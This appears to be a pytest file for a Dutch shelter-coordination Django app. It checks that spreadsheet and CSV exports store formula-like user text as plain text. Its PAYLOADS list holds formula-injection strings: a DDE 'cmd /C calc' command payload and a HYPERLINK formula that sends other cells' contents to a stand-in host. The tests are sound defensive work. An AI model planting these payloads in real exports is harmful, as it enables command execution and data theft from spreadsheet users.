"""User text in every Excel and CSV file we write stays text, never a formula (ADR 6).

An officer's candidate named ``=HYPERLINK("http://…?q="&B2&B3,"Bekijk")`` must reach the
coordinator's spreadsheet as that name, not as a link that carries other rows away. Each test
puts text that starts with ``=``, ``+``, ``-``, ``@``, a tab and a carriage return through one
export and reads the file back as a spreadsheet would.
"""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from opvangregie.audit.events import confidential_candidate_viewed
from opvangregie.capacity.models import Location
from opvangregie.fairshare.cli import main as distribute_main
from opvangregie.meetings import services as meeting_services
from opvangregie.meetings.models import Horizon
from opvangregie.operations.rota_cli import main as rota_main
from opvangregie.pipeline.models import CandidateKind
from opvangregie.pipeline.selectors import candidate_view_for_user
from opvangregie.pipeline.services import candidate_submit
from opvangregie.regions.models import Municipality
from opvangregie.safecells import csv_writer
from opvangregie.targets.models import Target
from opvangregie.targets.services import target_create
from tests.factories import UserFactory

PAYLOADS = [
    '=HYPERLINK("http://example.org/?q="&B2&B3,"Bekijk")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+3",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- reading back ------------------------------------------------------------------------


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def formula_cells(book) -> list[str]:
    """Every formula cell in the workbook; the product writes none of its own."""
    return [f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def assert_text_everywhere(book, texts) -> None:
    """Each text is in some cell as exactly that text, stored as text; no formula anywhere.

    All texts given start with a formula trigger."""
    cells = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, cell)
    for text in texts:
        assert text in cells, f"{text!r} is not a cell of its own"
        assert cells[text].data_type == "s", f"{text!r} is stored as {cells[text].data_type!r}"
        # Excel's own mark for such text: editing the cell later keeps it text.
        assert cells[text].quotePrefix, f"{text!r} has no quote prefix"
    assert formula_cells(book) == []


def neutralised(text: str) -> str:
    """What a CSV cell holding this text must read back as: a quote before a trigger."""
    return "'" + text


def assert_csv_texts(values, texts) -> None:
    for text in texts:
        assert neutralised(text) in values, f"{text!r} not written as {neutralised(text)!r}"
    for value in values:
        assert not value.startswith(TRIGGERS) or _is_negative_number(value), value


def _is_negative_number(value: str) -> bool:
    try:
        return float(value) < 0
    except ValueError:
        return False


# --- the location search ------------------------------------------------------------------


@pytest.fixture
def dalfsen(ijsselland):
    return ijsselland.municipalities.get(code="GM0148")


def test_the_longlist_keeps_names_addresses_and_owners_as_text(client, ijsselland, dalfsen,
                                                                coordinator):
    for text in PAYLOADS:
        candidate_submit(actor=None, safety_region=ijsselland, municipality=dalfsen,
                         name=text, address=text, owner=text, kind=CandidateKind.BUILDING,
                         possible_places=50)
    client.force_login(coordinator)
    response = client.get(reverse("pipeline:export"))
    assert response.status_code == 200
    book = workbook(response.content)
    assert_text_everywhere(book, PAYLOADS)
    rows = list(book.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert sorted(row[1] for row in rows) == sorted(PAYLOADS)


def test_an_officers_candidate_typed_as_a_link_stays_its_name(client, ijsselland, dalfsen,
                                                               coordinator):
    officer = UserFactory(role="officer", municipalities=[dalfsen])
    client.force_login(officer)
    response = client.post(reverse("pipeline:candidate_create"), {
        "name": PAYLOADS[0], "municipality": dalfsen.pk, "kind": CandidateKind.BUILDING,
        "possible_places": 40,
    })
    assert response.status_code == 302, response.content.decode()[:2000]
    client.force_login(coordinator)
    book = workbook(client.get(reverse("pipeline:export")).content)
    assert_text_everywhere(book, [PAYLOADS[0]])


def test_the_access_log_csv_neutralises_user_names(client, ijsselland, dalfsen, coordinator):
    candidate = candidate_submit(actor=None, safety_region=ijsselland, municipality=dalfsen,
                                 name="Pand aan de Vecht", kind=CandidateKind.BUILDING,
                                 possible_places=150)
    for text in PAYLOADS:
        user = UserFactory(username=text, role="coordinator", safety_region=ijsselland)
        confidential_candidate_viewed(user, candidate_view_for_user(user, candidate), "test")
    client.force_login(coordinator)
    response = client.get(reverse("pipeline:access_log", kwargs={"pk": candidate.pk}),
                          {"formaat": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    users = [row[1] for row in rows[1:]]
    assert_csv_texts(users, PAYLOADS)
    assert_csv_texts([value for row in rows for value in row], [])


# --- the location register -----------------------------------------------------------------


def test_the_upload_template_keeps_location_names_as_text(client, zwolle, zwolle_officer):
    for text in PAYLOADS:
        Location.objects.create(name=text, municipality=zwolle, type="cno")
    client.force_login(zwolle_officer)
    response = client.get(reverse("capacity:upload_template"))
    assert response.status_code == 200
    book = workbook(response.content)
    assert_text_everywhere(book, PAYLOADS)
    names = [row[1] for row in book["Capaciteit"].iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(PAYLOADS)


# --- the overview and the status report -------------------------------------------------------


@pytest.fixture
def renamed(ijsselland):
    """Six municipalities renamed in the reference data, and a target named like a formula."""
    municipalities = list(Municipality.objects.filter(safety_region=ijsselland)
                          .order_by("code")[:len(PAYLOADS)])
    for municipality, text in zip(municipalities, PAYLOADS, strict=True):
        Municipality.objects.filter(pk=municipality.pk).update(name=text)
    target_create(name=PAYLOADS[0], kind=Target.Kind.PERMIT_HOLDERS, amount=13500,
                  unit=Target.Unit.PERSONS, scope=Target.Scope.NATIONAL, source=PAYLOADS[2],
                  period_start=date(2022, 7, 1), period_end=date(2022, 12, 31),
                  registered_at=datetime(2022, 6, 1, tzinfo=UTC))


def test_the_overview_download_keeps_municipality_names_as_text(client, renamed, coordinator):
    client.force_login(coordinator)
    response = client.get(reverse("overview_export"),
                          {"regio": "VR04", "peildatum": "2022-08-31"})
    assert response.status_code == 200
    book = workbook(response.content)
    assert_text_everywhere(book, PAYLOADS)
    # Figures stay numbers: without anyone housed, Saldo I is the quota as a backlog.
    saldos = [cell for row in book["Inzage opgaven"].iter_rows(min_row=2) for cell in row
              if isinstance(cell.value, int) and cell.value < 0]
    assert saldos and all(cell.data_type == "n" for cell in saldos)
    # The notes name the target first: the cell starts with the formula-like name.
    notes = [v for row in book["Toelichting"].iter_rows(values_only=True) for v in row
             if isinstance(v, str) and v.startswith(PAYLOADS[0])]
    assert notes


def test_the_export_overview_command_keeps_municipality_names_as_text(renamed, tmp_path):
    path = tmp_path / "inzage.xlsx"
    call_command("export_overview", "--region", "VR04", "--as-of", "2022-08-31",
                 "-o", str(path))
    assert_text_everywhere(load_workbook(path), PAYLOADS)


@pytest.fixture
def meeting_texts(ijsselland):
    """Today's meeting with decisions and actions whose texts and owners look like formulas."""
    now = timezone.now() - timedelta(hours=1)
    meeting = meeting_services.meeting_create(actor=None, safety_region=ijsselland,
                                              date=timezone.localdate(), created_at=now)
    for text in PAYLOADS:
        meeting_services.decision_create(actor=None, meeting=meeting, text=text, owner=text,
                                         horizon=Horizon.SHORT, created_at=now)
        meeting_services.action_create(actor=None, meeting=meeting, text=text, owner=text,
                                       created_at=now)


def test_the_status_workbook_download_keeps_decisions_and_actions_as_text(
    client, meeting_texts, board_member
):
    client.force_login(board_member)
    response = client.get(reverse("meetings:status_report_xlsx"))
    assert response.status_code == 200
    book = workbook(response.content)
    assert_text_everywhere(book, PAYLOADS)
    decisions = [row[2] for sheet in book.worksheets if sheet.title == "Besluiten"
                 for row in sheet.iter_rows(values_only=True)]
    assert set(PAYLOADS) <= set(decisions)


def test_the_deck_command_writes_a_workbook_with_texts_as_text(meeting_texts, tmp_path):
    path = tmp_path / "tussenstand.xlsx"
    call_command("deck", "--region", "VR04", "--as-of", timezone.localdate().isoformat(),
                 "-o", str(path))
    assert_text_everywhere(load_workbook(path), PAYLOADS)


# --- the command-line tools (no database) ---------------------------------------------------


def _input_csv(path, header, rows):
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(header)
        writer.writerows(rows)
    return path


# The tools strip spaces around a name, so a tab or carriage return before it is dropped;
# what is left must still come out neutralised.
STRIPPED = [text.strip() for text in PAYLOADS]


def test_the_distribute_csv_neutralises_unit_names(tmp_path, capsys):
    units = [[text, 1000 * (i + 1)] for i, text in enumerate(PAYLOADS)] + [["Zwolle", 5000]]
    path = _input_csv(tmp_path / "eenheden.csv", ["name", "inwoners"], units)
    assert distribute_main([str(path), "--total", "100", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert_csv_texts([row[0] for row in rows[1:]], STRIPPED)
    assert_csv_texts([value for row in rows for value in row], [])
    assert "Zwolle" in [row[0] for row in rows]


def test_numbers_stay_numbers_in_a_csv():
    # A negative number is not text: it must still add up in the spreadsheet.
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow(
        [-3, -2.5, Decimal("-1.5"), "-3.5000", "-1e+06", "-2+3", 7, None, date(2022, 6, 1)])
    assert buffer.getvalue() == "-3,-2.5,-1.5,-3.5000,-1e+06,'-2+3,7,,2022-06-01\n"


def test_the_rota_csv_neutralises_participant_names(tmp_path, capsys):
    path = _input_csv(tmp_path / "deelnemers.csv", ["name", "inwoners"],
                      [[text, 100] for text in PAYLOADS])
    assert rota_main(["--participants", str(path), "--start", "2022-06-01",
                      "--end", "2022-08-31", "--turn-weeks", "2", "--parallel", "2",
                      "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert_csv_texts([row[0] for row in rows[1:]], STRIPPED)
    assert_csv_texts([value for row in rows for value in row], [])
